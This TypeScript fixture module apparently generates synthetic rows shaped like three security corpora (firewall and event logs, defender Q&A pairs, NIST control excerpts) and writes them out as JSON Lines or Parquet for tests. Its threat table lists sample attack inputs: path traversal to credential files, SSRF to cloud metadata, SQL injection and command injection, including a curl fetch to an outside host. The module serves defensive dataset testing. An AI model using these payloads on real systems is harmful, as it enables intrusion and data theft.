import { parquetWriteBuffer } from 'hyparquet-writer';
import { randomFrom, type Random } from '../../../../engine/random/random.ts';

/** Rows of the form of the three corpora, made up here. */

export interface WitfooRow {
  readonly message_sanitized: string;
  readonly label_binary: string;
  readonly matched_rules: string;
  readonly product_name: string;
  readonly message_type: string;
  readonly suspicion_score: number;
}

/** One row in `every` is no benign one. */
export function witfooRows(count: number, seed = 1, every = 10): WitfooRow[] {
  const random = randomFrom(seed, 'witfoo');
  return Array.from({ length: count }, (_, at) => {
    const bad = at % every === every - 1;
    return {
      message_sanitized: logLine(random, at),
      label_binary: bad ? random.pick(['malicious', 'suspicious']) : 'benign',
      matched_rules: bad ? '["rule-17"]' : '[]',
      product_name: random.pick(['ASA Firewall', 'Windows Security', 'VPC Flow Logs']),
      message_type: random.pick(['firewall', 'audit', 'flow']),
      suspicion_score: random.next(),
    };
  });
}

function logLine(random: Random, at: number): string {
  const ip = (): string => `192.0.2.${1 + random.int(254)}`;
  const host = `HOST-${String(random.int(9_999)).padStart(4, '0')}`;
  const user = `USER-${String(random.int(999)).padStart(4, '0')}`;
  switch (random.int(4)) {
    case 0:
      return `<166>Jul ${1 + random.int(28)} 2024 10:${10 + random.int(49)}:${10 + random.int(49)}: %ASA-6-302013: Built outbound TCP connection ${at} for outside:${ip()}/443 to inside:${ip()}/${1024 + random.int(60_000)}`;
    case 1:
      return `<Event><System><EventID>4624</EventID><EventRecordID>${at}</EventRecordID><Computer>${host}</Computer></System><EventData><Data Name="TargetUserName">${user}</Data><Data Name="LogonType">3</Data></EventData></Event>`;
    case 2:
      return `{"version":2,"srcaddr":"${ip()}","dstaddr":"${ip()}","srcport":${random.int(65_535)},"dstport":443,"packets":${at},"action":"ACCEPT","log_status":"OK"}`;
    default:
      return `2 ${random.int(1e9)} eni-${random.int(1e9).toString(16)} ${ip()} ${ip()} ${random.int(65_535)} 22 6 ${at} 4249 1418530010 REJECT OK`;
  }
}

const THREATS: readonly (readonly [string, readonly string[]])[] = [
  [
    'path traversal',
    ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '..\\..\\..\\windows\\win.ini', 'static/../../../../proc/self/environ'],
  ],
  [
    'server-side request forgery',
    [
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:6379/',
      'gopher://127.0.0.1:25/_MAIL',
      'http://localhost:9200/_cat/indices',
    ],
  ],
  ['command injection', ['; cat /etc/passwd', '| whoami', '$(curl http://198.51.100.7/x)', '&& id']],
  ['SQL injection', ["' OR '1'='1", "admin' UNION SELECT password FROM users--", "1'; DROP TABLE sessions;--", "x' OR 1=1 --"]],
];

export interface FenrirRow {
  readonly system: string;
  readonly user: string;
  readonly assistant: string;
}

export function fenrirRows(count: number, seed = 1): FenrirRow[] {
  const random = randomFrom(seed, 'fenrir');
  return Array.from({ length: count }, (_, at) => {
    const [threat, payloads] = random.pick(THREATS);
    const payload = random.pick(payloads);
    const unit = `${random.pick(['billing', 'identity', 'search', 'export'])} service ${at}`;
    return {
      system: 'You are a seasoned defender. Answer with care and never help an attacker.',
      user: `How should the team of the ${unit} find and stop ${threat} – and who has to know?`,
      assistant:
        `**Finding it.** Look for requests to the ${unit} whose parameters hold \`${payload}\` or an encoded form of it; ` +
        `the access log of the last ${2 + random.int(60)} days is enough to begin with.\n\n` +
        `\`\`\`http\nGET /reports/${at} HTTP/1.1\n${payload}\n\`\`\`\n\n` +
        `**Stopping it.** Validate on the server, run the ${unit} with the fewest rights it needs, and review rule ${random.int(900)} every quarter. ` +
        `Tell the owner of the data within ${1 + random.int(70)} hours, because the duty to report may apply.`,
    };
  });
}

export interface NistRow {
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly metadata: { readonly source: string; readonly type: string; readonly chunk_id: number };
}

const CONTROLS: readonly (readonly [string, string, string])[] = [
  [
    'AC-6',
    'Least Privilege',
    'Employ the principle of least privilege, allowing only authorized accesses for users and processes that are necessary to accomplish assigned tasks',
  ],
  [
    'SC-7',
    'Boundary Protection',
    'Monitor and control communications at the external managed interfaces to the system and connect to external networks only through managed interfaces',
  ],
  [
    'SI-10',
    'Information Input Validation',
    'Check the validity of information inputs such as character set, length and acceptable values so that commands and queries cannot be injected',
  ],
  [
    'AU-6',
    'Audit Record Review',
    'Review and analyze system audit records for indications of inappropriate or unusual activity and report findings to incident personnel',
  ],
  [
    'CM-7',
    'Least Functionality',
    'Configure the system to provide only mission essential capabilities and prohibit or restrict the execution of unauthorized software programs and commands',
  ],
  [
    'IA-5',
    'Authenticator Management',
    'Protect authenticator content such as passwords, keys and secrets from unauthorized disclosure and modification',
  ],
];

export function nistRows(count: number, seed = 1): NistRow[] {
  const random = randomFrom(seed, 'nist');
  return Array.from({ length: count }, (_, at) => {
    const [id, title, rule] = random.pick(CONTROLS);
    return {
      messages: [
        { role: 'system', content: 'You are an expert in NIST cybersecurity standards.' },
        { role: 'user', content: `What does NIST say about ${title.toLowerCase()}?` },
        {
          role: 'assistant',
          content:
            `and so on. ${id} ${title.toUpperCase()}\nControl: ${rule}. Organizations of size ${at} consider the mission and the busi-\nness process when they select the parameters.\n` +
            `NIST SP 800-53, REV. 5 SECURITY AND PRIVACY CONTROLS\n${random.int(400)}\n` +
            `Discussion: The control applies to component ${at} as well as to all ${random.int(90)} interfaces that are listed in the plan. ` +
            `Related controls are reviewed together with it, and exceptions end after ${1 + random.int(300)} days unless they are renewed by the`,
        },
      ],
      metadata: { source: `NIST.SP.800-${random.pick(['53r5', '171', '218'])}`, type: 'section', chunk_id: at },
    };
  });
}

export function jsonLines(rows: readonly object[]): string {
  return rows.map((row) => `${JSON.stringify(row)}\n`).join('');
}

/** A Parquet file with every column of the rows; `indexed` adds the page index that lets parts be read. */
export function parquetOf(rows: readonly object[], options: { readonly groupRows?: number; readonly indexed?: boolean } = {}): Uint8Array {
  const names = Object.keys(rows[0] ?? {});
  const buffer = parquetWriteBuffer({
    columnData: names.map((name) => ({
      name,
      data: rows.map((row) => (row as Record<string, unknown>)[name]),
      ...(options.indexed === true ? { offsetIndex: true, columnIndex: true } : {}),
    })),
    rowGroupSize: options.groupRows ?? rows.length,
    pageSize: 16_384,
  });
  return new Uint8Array(buffer);
}
